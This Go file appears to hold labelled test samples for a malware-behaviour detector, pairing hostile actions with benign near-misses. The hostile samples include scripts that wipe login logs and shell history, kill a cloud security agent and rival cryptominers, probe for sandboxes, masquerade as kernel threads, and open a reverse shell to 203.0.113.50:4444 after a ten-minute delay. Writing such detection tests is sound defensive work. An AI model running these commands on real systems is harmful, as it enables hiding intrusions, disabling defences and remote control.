package samples

// hiding is what keeps others from seeing, or from staying.
func hiding() []Sample {
	return []Sample{
		shows("masq-kthread/own-name", acts("take-name", "kworker/u8:2"), malicious, "kworker/u8:2"),
		nearly("masq-kthread/worker", acts("take-name", "worker/2")),
		shows("masq-daemon/drift", script("cp /bin/actor /tmp/.d\nexec actor exec-as /tmp/.d sshd ok\n"), malicious, "/tmp/.d", "sshd"),
		nearly("masq-daemon/other-name", script("exec actor exec-as /bin/actor nginx ok\n")),
		shows("process-hide/covered", acts("hide-process"), malicious, "/proc/1"),
		nearly("process-hide/own-mounts", acts("mount-tmpfs")),
		shows("log-wipe/logins-and-history", script(": > /var/log/wtmp\n: > /var/log/btmp\nrm -f /root/.bash_history\nln -s /dev/null /root/.ash_history\necho wiped\n"), bad, "/var/log/wtmp", "history"),
		nearly("log-wipe/own-log", script("mkdir -p /var/log/app\necho start > /var/log/app/app.log\n: > /var/log/app/app.log\nrm -f /var/log/app/old.log\necho done\n")),
		shows("security-disable/cloud-agent", script("killall -9 AliYunDun\nrm -rf /usr/local/aegis\necho tried\n"), malicious, "aegis"),
		nearly("security-disable/own-service", script("sleep 3 &\nkillall sleep\nrm -rf /srv/agent-cache\necho done\n")),
		shows("rival-kill/names", script("for n in xmrig kinsing kdevtmpfsi watchbog ddgs minerd; do killall -9 $n; done\necho tried\n"), malicious, "kinsing"),
		nearly("rival-kill/own-workers", script("for i in 1 2 3 4 5 6; do sleep 3 & done\nkillall sleep\nkillall worker scheduler web queue mailer cron\necho done\n")),
		shows("sandbox-check/many-tells", script(`cat /proc/version /proc/cpuinfo /proc/modules /sys/class/dmi/id/product_name /.dockerenv > /tmp/tells
dmesg | grep -i gvisor
exit 0
`), bad, "gvisor", "/proc/version"),
		nearly("sandbox-check/sizes-itself", script("cat /proc/cpuinfo /proc/meminfo /sys/fs/cgroup/memory.max > /tmp/sizes\necho ready\n")),
		shows("time-bomb/ten-minutes", script("echo ready\nsleep 600\nactor dial 203.0.113.50:4444\n"), harmless, "sleep 600"),
		// Scenario A13: a polite server, for ten minutes.
		shows("time-bomb/server", script("actor webserver 8080 &\nsleep 600\nexec actor reverse-shell 203.0.113.50:4444\n"), malicious, "sleep 600").
			but("reverse-shell", "203.0.113.50:4444"),
		shows("time-bomb/own-timer", acts("wait-and-dial", "2h", "203.0.113.50:4444"), harmless, "wait-and-dial 2h"),
		nearly("time-bomb/poller", acts("poll", "http://updates.example.test/latest.json")),
		nearly("time-bomb/one-second", script("sleep 1\necho ready\n")),
		shows("attr-tamper/times", script("echo '#!/bin/sh' > /tmp/.run\ntouch -r /bin/busybox /tmp/.run\necho done\n"), harmless, "touch -r"),
		nearly("attr-tamper/data-file", script("touch /srv/stamp\ntouch -d 2020-01-01 /srv/stamp\nmkdir -p /srv/d\ncp /etc/os-release /srv/d\ntouch -r /etc/os-release /srv/d/os-release\necho done\n")),
	}
}
